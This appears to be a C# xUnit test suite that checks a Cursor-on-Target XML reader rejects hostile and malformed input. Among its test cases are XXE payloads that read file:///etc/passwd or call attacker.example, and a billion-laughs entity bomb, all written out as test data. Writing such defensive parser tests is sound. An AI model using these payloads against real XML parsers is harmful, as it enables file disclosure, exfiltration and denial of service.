using System.Text;
using TakCan.Protocols.Cot;
using TakCan.Protocols.Cot.Detail;
using TakCan.Protocols.Cot.Xml;
using Xunit.Abstractions;

namespace TakCan.Protocols.Tests.Cot;

/// <summary>
/// Input from the network is hostile until proven otherwise: every bad document must end in a
/// <see cref="CotFormatException"/> that says what is wrong — never another exception, a hang or a blow-up.
/// </summary>
public class CotXmlHostileInputTests(ITestOutputHelper output)
{
    private const string Times = "time='2024-05-01T12:00:00.000Z' start='2024-05-01T12:00:00.000Z' stale='2024-05-01T12:05:00.000Z'";
    private const string Point = "<point lat='45.0' lon='-75.0' hae='0.0' ce='9999999.0' le='9999999.0'/>";

    private static string Event(string detail = "", string attributes = "", string point = Point) =>
        $"<event version='2.0' uid='hostile-1' type='a-f-G-U-C' how='m-g' {Times}{attributes}>{point}<detail>{detail}</detail></event>";

    private static string EventWith(string eventAttributes, string point = Point) => $"<event {eventAttributes}>{point}</event>";

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Splice(string before, byte[] middle, string after) => [.. Utf8(before), .. middle, .. Utf8(after)];

    private static CotFormatException Rejects(byte[] xml, string because, CotXmlLimits? limits = null)
    {
        var error = Assert.Throws<CotFormatException>(() => CotXmlReader.Read(xml, limits));
        Assert.Contains(because, error.Message, StringComparison.OrdinalIgnoreCase);
        return error;
    }

    private static CotFormatException Rejects(string xml, string because, CotXmlLimits? limits = null) => Rejects(Utf8(xml), because, limits);

    [Fact]
    public void The_template_itself_is_a_valid_event()
    {
        var evt = CotXmlReader.Read(Event("<contact callsign='OK'/>"));

        Assert.Equal("OK", evt.Detail.Contact?.Callsign);
        Assert.True(IndependentXml.IsWellFormed(Event()));
    }

    // ---- malformed XML: System.Xml rejects these too -----------------------------------------------------------

    private const string Lol = "<!ENTITY lol 'lol'><!ENTITY lol1 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>" +
                               "<!ENTITY lol2 '&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;'>" +
                               "<!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>" +
                               "<!ENTITY lol9 '&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;'>";

    /// <summary>Not well-formed XML (or a DTD, which CoT never needs): name → (bytes, words the message must contain).</summary>
    private static readonly Dictionary<string, (byte[] Xml, string Because)> Malformed = new()
    {
        ["dtd-external-entity-file"] = (Utf8("<?xml version='1.0'?><!DOCTYPE event [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" +
                                             Event("<contact callsign='&x;'/>")), "DTD"),
        ["dtd-external-entity-http"] = (Utf8("<!DOCTYPE event [<!ENTITY x SYSTEM \"http://attacker.example/x\">]>" +
                                             Event("<remarks>&x;</remarks>", " access='&x;'")), "DTD"),
        ["dtd-billion-laughs"] = (Utf8($"<?xml version='1.0'?><!DOCTYPE event [{Lol}]>" + Event("<remarks>&lol9;</remarks>")), "DTD"),
        ["dtd-parameter-entity"] = (Utf8("<!DOCTYPE event [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;]>" + Event()), "DTD"),
        ["dtd-external-subset"] = (Utf8("<!DOCTYPE event SYSTEM \"http://attacker.example/cot.dtd\">" + Event()), "DTD"),
        ["dtd-inside-detail"] = (Utf8(Event("<!DOCTYPE x [<!ENTITY y 'z'>]><remarks>&y;</remarks>")), "DTD"),
        ["undefined-entity-in-attribute"] = (Utf8(Event("<contact callsign='&x;'/>")), "undefined entity"),
        ["undefined-entity-in-text"] = (Utf8(Event("<remarks>a&nbsp;b</remarks>")), "undefined entity"),
        ["undefined-entity-in-event-attribute"] = (Utf8(Event("", " access='&secret;'")), "undefined entity"),
        ["bare-ampersand"] = (Utf8(Event("<remarks>fish & chips</remarks>")), "&"),
        ["mismatched-end-tag"] = (Utf8(Event("<contact callsign='a'></contakt>")), "does not match"),
        ["mismatched-nesting"] = (Utf8(Event("<a><b></a></b>")), "does not match"),
        ["unclosed-detail"] = (Utf8($"<event uid='u' type='t' how='m-g' {Times}>{Point}<detail><contact/></event>"), "does not match"),
        ["stray-end-tag"] = (Utf8(Event("</contact>")), "does not match"),
        ["unquoted-attribute"] = (Utf8(Event("<contact callsign=VIKING/>")), "not quoted"),
        ["attribute-without-value"] = (Utf8(Event("<contact callsign/>")), "no '='"),
        ["unterminated-attribute"] = (Utf8(Event("<contact callsign='VIKING/>")), "attribute"),
        ["attributes-without-space"] = (Utf8(Event("<contact callsign='a'endpoint='b'/>")), "whitespace"),
        ["lt-in-attribute"] = (Utf8(Event("<contact callsign='a<b'/>")), "'<'"),
        ["lt-in-event-attribute"] = (Utf8(Event("", " access='a<b'")), "'<'"),
        ["char-ref-zero"] = (Utf8(Event("<remarks>&#0;</remarks>")), "character reference"),
        ["char-ref-surrogate"] = (Utf8(Event("<remarks>&#xD800;</remarks>")), "character reference"),
        ["char-ref-surrogate-in-attribute"] = (Utf8(Event("<contact callsign='&#55296;'/>")), "character reference"),
        ["char-ref-control"] = (Utf8(Event("<contact callsign='&#x1;'/>")), "character reference"),
        ["char-ref-fffe"] = (Utf8(Event("<remarks>&#xFFFE;</remarks>")), "character reference"),
        ["char-ref-beyond-unicode"] = (Utf8(Event("<remarks>&#x110000;</remarks>")), "character reference"),
        ["char-ref-not-a-number"] = (Utf8(Event("<remarks>&#12a;</remarks>")), "character reference"),
        ["char-ref-empty-hex"] = (Utf8(Event("<remarks>&#x;</remarks>")), "character reference"),
        ["control-character-in-text"] = (Utf8(Event("<remarks>bell\u0007</remarks>")), "control character"),
        ["control-character-in-attribute"] = (Utf8(Event("<contact callsign='a\u001Fb'/>")), "control character"),
        ["nul-byte"] = (Utf8(Event("<remarks>a\0b</remarks>")), "control character"),
        ["escape-in-unknown-element"] = (Utf8(Event("<vendor>\u001B[31m</vendor>")), "control character"),
        ["utf8-lone-continuation-byte"] = (Splice(Event("<remarks>a"), [0x80], "b</remarks>"), "UTF-8"),
        ["utf8-truncated-sequence"] = (Splice(Event("<remarks>"), [0xC3, 0x28], "</remarks>"), "UTF-8"),
        ["utf8-overlong-slash"] = (Splice(Event("<contact callsign='"), [0xC0, 0xAF], "'/>"), "UTF-8"),
        ["utf8-encoded-surrogate"] = (Splice(Event("<remarks>"), [0xED, 0xA0, 0x80], "</remarks>"), "UTF-8"),
        ["utf8-ff-byte"] = (Splice("<event uid='", [0xFF], $"' type='t' {Times}>{Point}</event>"), "UTF-8"),
        ["utf8-beyond-unicode"] = (Splice(Event("<remarks>"), [0xF4, 0x90, 0x80, 0x80], "</remarks>"), "UTF-8"),
        ["duplicate-attribute-on-detail-child"] = (Utf8(Event("<contact callsign='a' callsign='b'/>")), "duplicate attribute 'callsign'"),
        ["duplicate-attribute-on-unknown-element"] = (Utf8(Event("<vendor a='1' b='2' a='3'/>")), "duplicate attribute 'a'"),
        ["duplicate-attribute-nested"] = (Utf8(Event("<__chat><chatgrp uid0='a' uid0='b'/></__chat>")), "duplicate attribute 'uid0'"),
        ["duplicate-uid-on-event"] = (Utf8(Event("", " uid='other'")), "duplicate attribute 'uid'"),
        ["duplicate-time-on-event"] = (Utf8(Event("", " time='2024-05-01T12:00:00.000Z'")), "duplicate attribute 'time'"),
        ["duplicate-lat-on-point"] = (Utf8(Event("", "", "<point lat='1' lon='2' lat='3'/>")), "duplicate attribute 'lat'"),
        ["duplicate-unknown-attribute-on-event"] = (Utf8(Event("", " foo='1' foo='2'")), "duplicate attribute 'foo'"),
        ["duplicate-unknown-attribute-on-point"] = (Utf8(Event("", "", "<point lat='1' lon='2' foo='1' foo='2'/>")), "duplicate attribute 'foo'"),
        ["duplicate-attribute-on-detail"] = (Utf8(Event().Replace("<detail>", "<detail a='1' a='2'>")), "duplicate attribute 'a'"),
        ["undefined-entity-in-unknown-element-attribute"] = (Utf8(Event("<vendor a='&x;'/>")), "undefined entity"),
        ["bare-ampersand-in-unknown-element-attribute"] = (Utf8(Event("<vendor a='fish & chips'/>")), "&"),
        ["char-ref-zero-in-unknown-element-attribute"] = (Utf8(Event("<vendor><deeper a='&#0;'/></vendor>")), "character reference"),
        ["undefined-entity-in-unknown-event-attribute"] = (Utf8(Event("", " foo='&x;'")), "undefined entity"),
        ["undefined-entity-in-unknown-point-attribute"] = (Utf8(Event("", "", "<point lat='1' lon='2' foo='&x;'/>")), "undefined entity"),
        ["undefined-entity-in-detail-attribute"] = (Utf8(Event().Replace("<detail>", "<detail foo='&x;'>")), "undefined entity"),
        ["noncharacter-ffff-in-text"] = (Utf8(Event("<vendor>a\uFFFFb</vendor>")), "U+FFFF"),
        ["noncharacter-fffe-in-attribute"] = (Utf8(Event("<contact callsign='a\uFFFEb'/>")), "U+FFFE"),
        ["cdata-end-in-text"] = (Utf8(Event("<remarks>a ]]> b</remarks>")), "']]>'"),
        ["cdata-end-in-unknown-element"] = (Utf8(Event("<vendor>x &amp; ]]></vendor>")), "']]>'"),
        ["double-hyphen-in-comment"] = (Utf8(Event("<!-- a -- b -->")), "'--'"),
        ["comment-ending-in-hyphen"] = (Utf8(Event("<vendor><!-- a ---></vendor>")), "'--'"),
        ["xml-declaration-inside-element"] = (Utf8(Event("<vendor><?xml version='1.0'?></vendor>")), "declaration inside"),
        ["two-root-elements"] = (Utf8(Event() + Event()), "after </event>"),
        ["text-after-root"] = (Utf8(Event() + "trailing"), "after </event>"),
        ["no-root-element"] = (Utf8("<?xml version='1.0' encoding='UTF-8'?>\n"), "no <event>"),
        ["empty-input"] = ([], "no <event>"),
        ["declaration-after-comment"] = (Utf8("<!-- hi --><?xml version='1.0'?>" + Event()), "declaration"),
        ["unterminated-comment"] = (Utf8(Event("<!-- never closed")), "comment"),
        ["unterminated-cdata"] = (Utf8(Event("<remarks><![CDATA[never closed</remarks>")), "CDATA"),
        ["unterminated-processing-instruction"] = (Utf8(Event("<?pi never closed")), "processing instruction"),
        ["name-starting-with-digit"] = (Utf8(Event("<1vendor/>")), "name"),
        ["space-after-lt"] = (Utf8(Event("< contact/>")), "name"),
        ["bang-markup"] = (Utf8(Event("<!ELEMENT x ANY>")), "<!"),
    };

    public static TheoryData<string> MalformedNames => new(Malformed.Keys);

    [Theory]
    [MemberData(nameof(MalformedNames))]
    public void Malformed_xml_is_rejected_with_a_reason(string name)
    {
        var (xml, because) = Malformed[name];

        var error = Rejects(xml, because);

        output.WriteLine(error.Message);
    }

    [Theory]
    [MemberData(nameof(MalformedNames))]
    public void System_xml_agrees_it_is_malformed(string name)
    {
        Assert.False(IndependentXml.IsWellFormed(Malformed[name].Xml), $"System.Xml accepts '{name}'");
    }

    [Theory]
    [MemberData(nameof(CotSamples.All), MemberType = typeof(CotSamples))]
    public void System_xml_agrees_every_sample_is_well_formed(string name)
    {
        Assert.True(IndependentXml.IsWellFormed(CotSamples.Text(name)));
        CotXmlReader.Read(CotSamples.Bytes(name));
    }

    [Fact]
    public void Dtd_is_refused_before_any_entity_is_touched()
    {
        // The entity would name a file; the error must be about the DTD, not about a missing or unreadable file.
        var error = Rejects(Malformed["dtd-external-entity-file"].Xml, "DTD");

        Assert.DoesNotContain("passwd", error.Message);
        Assert.Null(error.InnerException);
    }

    [Fact]
    public void Billion_laughs_fails_fast()
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var before = GC.GetAllocatedBytesForCurrentThread();

        Rejects(Malformed["dtd-billion-laughs"].Xml, "DTD");

        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 64 * 1024);
        Assert.True(watch.ElapsedMilliseconds < 1000);
    }

    // ---- valid XML that is not a valid CoT event ---------------------------------------------------------------

    public static TheoryData<string, string> NotCot => new()
    {
        { "<message uid='u'/>", "expected <event>" },
        { EventWith($"type='a-f-G' how='m-g' {Times}"), "no uid" },
        { EventWith($"uid='' type='a-f-G' {Times}"), "no uid" },
        { EventWith($"uid='u' how='m-g' {Times}"), "no type" },
        { EventWith("uid='u' type='a-f-G' start='2024-05-01T12:00:00Z' stale='2024-05-01T12:05:00Z'"), "no time" },
        { EventWith("uid='u' type='a-f-G' time='2024-05-01T12:00:00Z' stale='2024-05-01T12:05:00Z'"), "no start" },
        { EventWith("uid='u' type='a-f-G' time='2024-05-01T12:00:00Z' start='2024-05-01T12:00:00Z'"), "no stale" },
        { EventWith($"uid='u' type='a-f-G' {Times}", "<detail/>"), "no <point>" },
        { $"<event uid='u' type='a-f-G' {Times}/>", "no <point>" },
        { Event("", "", "<point lon='2'/>"), "no lat" },
        { Event("", "", "<point lat='1'/>"), "no lon" },
        { Event("", "", "<point lat='1' lon='2'/><point lat='1' lon='2'/>"), "more than one <point>" },
        { Event("<remarks/>").Replace("</event>", "<detail/></event>"), "more than one <detail>" },
    };

    [Theory]
    [MemberData(nameof(NotCot))]
    public void Missing_required_parts_are_named(string xml, string because)
    {
        Assert.True(IndependentXml.IsWellFormed(xml));
        Rejects(xml, because);
    }

    [Theory]
    [InlineData("yesterday")]
    [InlineData("")]
    [InlineData("2024-13-01T00:00:00Z")]
    [InlineData("2024-02-30T00:00:00Z")]
    [InlineData("2023-02-29T00:00:00.000Z")]
    [InlineData("2024-05-01T24:00:00.000Z")]
    [InlineData("2024-05-01T12:60:00.000Z")]
    [InlineData("2024-05-01T12:00:61.000Z")]
    [InlineData("0000-01-01T00:00:00Z")]
    [InlineData("2024-05-01T12:00:00.Z")]
    [InlineData("2024-05-01T12:00:00.000Q")]
    [InlineData("12:00:00")]
    [InlineData("1714564800")]
    [InlineData("2024-05-01T12:00:00.000Z2024-05-01T12:00:00.000Z2024-05-01T12:00:00.000Z")]
    public void Invalid_times_are_rejected(string time)
    {
        foreach (var attribute in new[] { "time", "start", "stale" })
        {
            var xml = Event().Replace($"{attribute}='2024-05-01T12:0", $"{attribute}='{time}' x{attribute}='2024-05-01T12:0");
            var error = Rejects(xml, $"in attribute '{attribute}' of <event>");
            Assert.StartsWith($"invalid time '{time[..Math.Min(time.Length, 48)]}", error.Message);
            Assert.NotNull(error.Offset);
        }
    }

    [Theory]
    [InlineData("lat='95' lon='0'", "lat 95 is outside")]
    [InlineData("lat='-90.000001' lon='0'", "outside -90..90")]
    [InlineData("lat='0' lon='180.5'", "lon 180.5 is outside")]
    [InlineData("lat='0' lon='-181'", "outside -180..180")]
    [InlineData("lat='0' lon='abc'", "lon 'abc' is not a number")]
    [InlineData("lat='' lon='0'", "lat '' is not a number")]
    [InlineData("lat='1,5' lon='0'", "is not a number")]
    [InlineData("lat='NaN' lon='0'", "outside")]
    [InlineData("lat='0' lon='Infinity'", "outside")]
    [InlineData("lat='1e400' lon='0'", "outside")]
    [InlineData("lat='0' lon='0' hae='high'", "hae 'high' is not a number")]
    [InlineData("lat='0' lon='0' ce='0x10'", "ce '0x10' is not a number")]
    public void Invalid_positions_are_rejected(string attributes, string because)
    {
        Rejects(Event("", "", $"<point {attributes}/>"), because);
    }

    // ---- limits ------------------------------------------------------------------------------------------------

    [Fact]
    public void Ten_megabyte_attribute_is_over_the_default_limit()
    {
        var xml = HugeAttributeEvent(10 * 1024 * 1024, "contact callsign");

        var error = Rejects(xml, "above the limit of 1048576 bytes");
        output.WriteLine(error.Message);
    }

    [Theory]
    [InlineData("contact callsign", false)]
    [InlineData("contact callsign", true)]
    [InlineData("vendor blob", false)]
    [InlineData("vendor blob", true)]
    public void Ten_megabyte_attribute_under_a_raised_limit_costs_a_small_multiple_of_its_size(string where, bool entities)
    {
        const int Size = 10 * 1024 * 1024;
        var xml = HugeAttributeEvent(Size, where, entities);
        var limits = new CotXmlLimits { MaxEventBytes = 16 * 1024 * 1024 };
        CotXmlReader.Read(Event(), limits); // warm up caches and JIT outside the measurement

        var before = GC.GetAllocatedBytesForCurrentThread();
        var evt = CotXmlReader.Read(xml, limits);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        output.WriteLine($"{xml.Length:N0} input bytes, {allocated:N0} bytes allocated ({(double)allocated / xml.Length:F2}x)");
        // One UTF-16 string of the value is 2x; decoding entities may add one pooled char buffer of the same size.
        Assert.True(allocated <= 5L * xml.Length, $"{allocated:N0} bytes allocated for {xml.Length:N0} bytes of input");
        if (where.StartsWith("contact", StringComparison.Ordinal))
            Assert.Equal(entities ? Size - 4 * (Size * 4 / 5 / 5) : Size, evt.Detail.Contact!.Callsign!.Length);
        else
            Assert.Equal("vendor", evt.Detail.Elements[0].Name);
    }

    /// <summary>An event whose <paramref name="where"/> ("element attribute") holds <paramref name="size"/> bytes.</summary>
    private static byte[] HugeAttributeEvent(int size, string where, bool entities = false)
    {
        var head = Utf8(Event("<" + where + "='").Split("</detail>")[0]);
        var tail = Utf8("'/></detail></event>");
        var xml = new byte[head.Length + size + tail.Length];
        head.CopyTo(xml, 0);
        var value = xml.AsSpan(head.Length, size);
        value.Fill((byte)'A');
        if (entities)
        {
            // Every fifth byte of the first 80% starts "&amp;": 4/5 of that region shrinks on decoding.
            for (var i = 0; i + 5 <= size * 4 / 5; i += 5) "&amp;"u8.CopyTo(value[i..]);
        }

        tail.CopyTo(xml, head.Length + size);
        return xml;
    }

    [Theory]
    [InlineData(30, true)]
    [InlineData(31, false)]
    public void Nesting_is_limited_to_max_depth(int levels, bool accepted)
    {
        // event is depth 1, detail 2: a detail child nested n levels deep reaches depth n + 2.
        var xml = Event(string.Concat(Enumerable.Repeat("<n>", levels)) + string.Concat(Enumerable.Repeat("</n>", levels)));

        if (accepted) CotXmlReader.Read(xml);
        else Rejects(xml, "nested deeper than 32");
    }

    [Theory]
    [InlineData("<contact>{0}</contact>")]
    [InlineData("<__chat><chatgrp>{0}</chatgrp></__chat>")]
    [InlineData("<vendor>{0}</vendor>")]
    public void Nesting_limit_holds_inside_typed_and_unknown_elements(string wrapper)
    {
        var deep = string.Concat(Enumerable.Repeat("<n>", 40)) + string.Concat(Enumerable.Repeat("</n>", 40));

        Rejects(Event(string.Format(System.Globalization.CultureInfo.InvariantCulture, wrapper, deep)), "nested deeper");
    }

    [Fact]
    public void Nesting_limit_holds_outside_detail()
    {
        var deep = string.Concat(Enumerable.Repeat("<n>", 40)) + string.Concat(Enumerable.Repeat("</n>", 40));

        Rejects(Event("", "", Point + deep), "nested deeper");
        Rejects(Event("", "", $"<point lat='1' lon='2'>{deep}</point>"), "nested deeper");
    }

    [Fact]
    public void Very_deep_nesting_fails_without_exhausting_the_stack()
    {
        var deep = new StringBuilder();
        for (var i = 0; i < 200_000; i++) deep.Append("<n>");

        Rejects(Event(deep.ToString()), "nested deeper");
    }

    [Fact]
    public void A_lower_depth_limit_is_honoured()
    {
        var limits = new CotXmlLimits { MaxDepth = 4 };

        CotXmlReader.Read(Event("<a><b/></a>"), limits);
        Rejects(Event("<a><b><c/></b></a>"), "nested deeper than 4", limits);
    }

    [Theory]
    [InlineData("vendor", 256, true)]
    [InlineData("vendor", 257, false)]
    [InlineData("contact", 256, true)]
    [InlineData("contact", 257, false)]
    public void Attributes_per_element_are_limited(string element, int count, bool accepted)
    {
        var attributes = string.Concat(Enumerable.Range(0, count).Select(i => $" a{i}='{i}'"));
        var xml = Event($"<{element}{attributes}/>");

        if (accepted)
        {
            var read = CotXmlReader.Read(xml).Detail.Elements[0];
            Assert.Equal(count, read is OpaqueElement opaque ? IndependentXml.Parse(opaque.Xml).Root!.Attributes().Count() : read.OtherAttributes.Count);
        }
        else Rejects(xml, "more than 256 attributes");
    }

    [Fact]
    public void Attributes_on_event_and_point_are_limited()
    {
        var many = string.Concat(Enumerable.Range(0, 300).Select(i => $" a{i}='{i}'"));

        Rejects(Event("", many), "more than 256 attributes");
        Rejects(Event("", "", $"<point lat='1' lon='2'{many}/>"), "more than 256 attributes");
        Rejects(Event().Replace("<detail>", $"<detail{many}>"), "more than 256 attributes");
    }

    [Fact]
    public void A_lower_attribute_limit_is_honoured()
    {
        Rejects(Event("<contact a='1' b='2' c='3'/>"), "more than 2 attributes", new CotXmlLimits { MaxAttributes = 2 });
    }

    // ---- truncation, fuzzing -----------------------------------------------------------------------------------

    [Theory]
    [MemberData(nameof(CotSamples.All), MemberType = typeof(CotSamples))]
    public void Every_truncation_of_a_sample_is_a_format_error(string name)
    {
        var bytes = CotSamples.Bytes(name);
        var end = CotSamples.EndOfEvent(name, bytes);
        CotXmlReader.Read(bytes.AsSpan(0, end));

        for (var length = 0; length < end; length++)
        {
            try
            {
                CotXmlReader.Read(bytes.AsSpan(0, length));
                Assert.Fail($"{name} cut to {length} of {end} bytes was accepted");
            }
            catch (CotFormatException)
            {
            }
            catch (Exception e)
            {
                Assert.Fail($"{name} cut to {length} bytes threw {e.GetType().Name}: {e.Message}");
            }
        }
    }

    [Theory]
    [MemberData(nameof(CotSamples.All), MemberType = typeof(CotSamples))]
    public void Random_mutations_of_a_sample_give_an_event_or_a_format_error(string name)
    {
        var original = CotSamples.Bytes(name);
        var random = new Random(StableSeed(name));
        int accepted = 0, rejected = 0;
        for (var iteration = 0; iteration < 400; iteration++)
        {
            var mutated = Mutate(original, random);
            try
            {
                var evt = CotXmlReader.Read(mutated);
                accepted++;
                // Whatever we accept, we must be able to write and read back to the same output.
                var written = CotXmlWriter.ToUtf8(evt);
                Assert.Equal(written, CotXmlWriter.ToUtf8(CotXmlReader.Read(written)));
            }
            catch (CotFormatException e)
            {
                rejected++;
                Assert.False(string.IsNullOrWhiteSpace(e.Message));
            }
            catch (Exception e) when (e is not Xunit.Sdk.XunitException)
            {
                Assert.Fail($"{name} iteration {iteration} threw {e.GetType().Name}: {e.Message}\n" +
                            $"input (base64): {Convert.ToBase64String(mutated)}\n{e}");
            }
        }

        output.WriteLine($"{name}: {accepted} accepted, {rejected} rejected");
        Assert.True(rejected > 0);
    }

    /// <summary>string.GetHashCode is randomised per process; the fuzz seed must not be.</summary>
    private static int StableSeed(string name)
    {
        var seed = 20240501;
        foreach (var c in name) seed = seed * 31 + c;
        return seed;
    }

    private static readonly byte[] Interesting = "<>/='\"&;#x:!?[]- \t\r\n\0\u00ff"u8.ToArray();

    private static byte[] Mutate(byte[] original, Random random)
    {
        var bytes = new List<byte>(original);
        var mutations = random.Next(1, 5);
        for (var m = 0; m < mutations && bytes.Count > 0; m++)
        {
            var at = random.Next(bytes.Count);
            switch (random.Next(6))
            {
                case 0:
                    bytes[at] ^= (byte)(1 << random.Next(8));
                    break;
                case 1:
                    bytes[at] = Interesting[random.Next(Interesting.Length)];
                    break;
                case 2:
                    bytes.Insert(at, random.Next(2) == 0 ? Interesting[random.Next(Interesting.Length)] : (byte)random.Next(256));
                    break;
                case 3:
                    bytes.RemoveRange(at, Math.Min(bytes.Count - at, random.Next(1, 16)));
                    break;
                case 4:
                {
                    // Duplicate a slice elsewhere: repeated attributes, elements and end tags.
                    var length = Math.Min(bytes.Count - at, random.Next(1, 64));
                    var slice = bytes.GetRange(at, length);
                    bytes.InsertRange(random.Next(bytes.Count), slice);
                    break;
                }
                default:
                    bytes[at] = (byte)random.Next(256);
                    break;
            }
        }

        return bytes.ToArray();
    }
}
